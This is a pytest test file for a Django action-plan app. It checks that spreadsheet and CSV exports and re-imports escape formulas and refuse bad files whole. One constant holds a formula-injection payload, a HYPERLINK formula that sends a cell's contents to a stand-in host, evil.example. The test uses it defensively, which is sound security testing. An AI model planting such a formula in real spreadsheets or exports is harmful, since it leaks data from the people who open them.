"""Bad input is refused whole, naming the file, sheet and row; formulas never leave as formulas."""

import csv
import io

import pytest
from django.core.management.base import CommandError
from django.utils import timezone
from openpyxl import load_workbook

from actionplan.plans.models import Action, User
from actionplan.plans.updates import record_progress
from actionplan.reports import Scope, build_report, render
from actionplan.reports.export_columns import ID, PROGRESS, REVISED_DUE, STATUS
from factories import ActionFactory

from .workbooks import edit, export, give_back

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click for the evidence")'


@pytest.fixture
def two_actions(action, alice):
    other = ActionFactory(recommendation=action.recommendation, owner=action.owner, text="Second action")
    return action, other


def updates_count() -> int:
    return sum(a.updates.count() for a in Action.objects.all())


def test_a_formula_in_progress_text_is_exported_as_text_and_comes_back_unchanged(
    two_actions, alice, tmp_path
):
    action, _ = two_actions
    record_progress(action, alice, FORMULA, on=timezone.localdate())
    partnership = action.recommendation.plan.partnership
    report = build_report(partnership, Scope(), timezone.localdate())
    book = load_workbook(io.BytesIO(render(report, "xlsx").content))
    cells = [c for row in book.worksheets[1].iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert cells and all(c.data_type == "s" and c.value == "'" + FORMULA for c in cells)
    rows = list(csv.DictReader(io.StringIO(render(report, "csv").content.decode("utf-8-sig"))))
    assert rows[0][PROGRESS] == "'" + FORMULA
    out = give_back(tmp_path, export(partnership), "alice")
    assert out.startswith("applied 0, unchanged 2")


@pytest.mark.parametrize(
    "damage,message",
    [
        ({STATUS: "Nearly done"}, "sheet '.*' row 2: unknown status 'Nearly done'"),
        ({REVISED_DUE: "next Tuesday-ish"}, "sheet '.*' row 2: 'next Tuesday-ish' is not a date"),
        ({ID: "123"}, "sheet '.*' row 2: '123' is not an ID like A-123"),
    ],
)
def test_a_bad_row_refuses_the_whole_file(two_actions, tmp_path, damage, message):
    action, other = two_actions
    partnership = action.recommendation.plan.partnership
    content = edit(export(partnership), {action.pk: damage, other.pk: {PROGRESS: "A good edit."}})
    with pytest.raises(CommandError, match=f"returned.xlsx: {message}.*nothing was applied"):
        give_back(tmp_path, content, "alice")
    assert updates_count() == 0


def test_a_sheet_without_the_id_column_is_refused(two_actions, tmp_path):
    partnership = two_actions[0].recommendation.plan.partnership
    book = load_workbook(io.BytesIO(export(partnership)))
    book.worksheets[1]["A1"] = "Number"
    out = io.BytesIO()
    book.save(out)
    with pytest.raises(CommandError, match="returned.xlsx: sheet '.*': no column headed ID"):
        give_back(tmp_path, out.getvalue(), "alice")


def test_a_file_that_is_not_a_workbook_is_refused(alice, tmp_path):
    with pytest.raises(CommandError, match="notes.xlsx: not an Excel workbook"):
        give_back(tmp_path, b"minutes of the last meeting", "alice", name="notes.xlsx")


def test_a_workbook_of_a_past_date_is_refused(two_actions, tmp_path):
    partnership = two_actions[0].recommendation.plan.partnership
    past = build_report(partnership, Scope(), timezone.localdate().replace(year=2020))
    with pytest.raises(CommandError, match="a report as at .*2020, a past date"):
        give_back(tmp_path, render(past, "xlsx").content, "alice")


def test_an_unknown_user_is_named(tmp_path):
    assert not User.objects.filter(username="zed").exists()
    with pytest.raises(CommandError, match="no active user 'zed'"):
        give_back(tmp_path, b"", "zed")
